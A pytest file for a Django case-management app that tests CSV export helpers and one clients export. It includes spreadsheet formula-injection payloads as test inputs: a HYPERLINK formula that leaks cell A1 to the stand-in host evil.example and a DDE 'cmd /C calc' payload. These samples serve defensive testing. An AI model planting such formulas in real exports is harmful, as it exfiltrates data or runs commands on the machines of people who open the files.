import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from casemgmt.lib.exports import csv_cell, csv_response
from tests.factories import ClientFactory

ROOT = Path(__file__).resolve().parent.parent


def test_csv_response_is_an_attachment_with_the_header_then_the_rows():
    response = csv_response("figures.csv", ["Name", "Count"], iter([["A, B", 2], ["C", 0]]))
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="figures.csv"'
    assert response.content.decode().splitlines() == ["Name,Count", '"A, B",2', "C,0"]


@pytest.mark.parametrize(
    "value, written",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'=HYPERLINK("),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_neutralised(value, written):
    """Issue 14, finding 5 (OWASP CSV injection): a single quote in front."""
    assert str(csv_cell(value)).startswith(written)
    response = csv_response("x.csv", ["Name"], [[value]])
    row = list(csv.reader(io.StringIO(response.content.decode())))[1]
    assert row == ["'" + value]


def test_ordinary_text_and_numbers_are_written_as_they_are():
    assert csv_cell("Ana Silva") == "Ana Silva" and csv_cell("a=b") == "a=b"
    assert csv_cell(-3) == -3 and csv_cell(0.25) == 0.25 and csv_cell(None) is None


@pytest.mark.django_db
def test_the_clients_export_writes_a_formula_name_as_text(browser_as, supervisor, team):
    ClientFactory(team=team, first_name='=HYPERLINK("http://evil.example","x")', last_name="Z")
    response = browser_as(supervisor).get(reverse("dashboard:clients_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows[1:]]
    assert names and all(not name.startswith(("=", "+", "-", "@")) for name in names)
    assert names[0].startswith("'=HYPERLINK(")


def test_every_csv_the_project_writes_goes_through_csv_response():
    """No module but casemgmt/lib/exports.py builds a csv writer of its own (the build
    script of the synthetic demo directory writes data files in the repository, not an
    export: it is the one exception)."""
    allowed = {
        ROOT / "casemgmt" / "lib" / "exports.py",
        ROOT / "referrals" / "data" / "build_hsds_demo.py",
    }
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not {".venv", "tests", ".data", "node_modules"} & set(path.relative_to(ROOT).parts)
        and path not in allowed
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
